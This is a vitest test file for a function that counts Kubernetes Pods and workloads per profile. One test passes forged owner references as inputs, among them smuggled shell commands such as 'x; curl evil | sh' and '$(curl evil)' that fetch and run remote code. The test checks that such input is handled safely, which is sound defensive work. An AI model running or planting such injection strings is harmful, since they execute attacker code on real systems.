import { expect, it } from 'vitest'
import type { JsonObject } from '../../json/json.ts'
import { countUsers } from './profile-users.ts'

function pod(name: string, owner?: readonly [kind: string, name: string], hash?: string): JsonObject {
  const ownerReferences = owner && [{ kind: owner[0], name: owner[1], uid: 'u', controller: true }]
  const labels = hash === undefined ? undefined : { 'pod-template-hash': hash }
  return {
    metadata: {
      namespace: 'shop',
      name,
      ...(labels && { labels }),
      ...(ownerReferences && { ownerReferences }),
    },
  }
}

it('counts Pods and workloads, and a Deployment once during a rollout', () => {
  const users = countUsers()
  users.add(pod('web-1', ['ReplicaSet', 'web-5f4cf'], '5f4cf'), ['/logging', 'shop/own'])
  users.add(pod('web-2', ['ReplicaSet', 'web-99999'], '99999'), ['/logging'])
  users.add(pod('bare-set', ['ReplicaSet', 'web']), ['/logging'])
  users.add(pod('db-0', ['StatefulSet', 'db']), ['/logging'])
  users.add(pod('db-1', ['StatefulSet', 'db']), ['/logging'])
  users.add(pod('alone'), ['/logging'])
  users.add(pod('other'), [])
  expect(Object.fromEntries(users.result())).toEqual({
    '/logging': { pods: 6, workloads: 4 },
    'shop/own': { pods: 1, workloads: 1 },
  })
})

it('counts a Pod with a forged owner as a Pod without a controller', () => {
  const users = countUsers()
  users.add(pod('a', ['ReplicaSet', 'x'.repeat(1_000_000)]), ['/logging'])
  users.add(pod('b', ['ReplicaSet', 'x; curl evil | sh']), ['/logging'])
  users.add(pod('c', ['$(curl evil)', 'x']), ['/logging'])
  expect(Object.fromEntries(users.result())).toEqual({ '/logging': { pods: 3, workloads: 3 } })
})
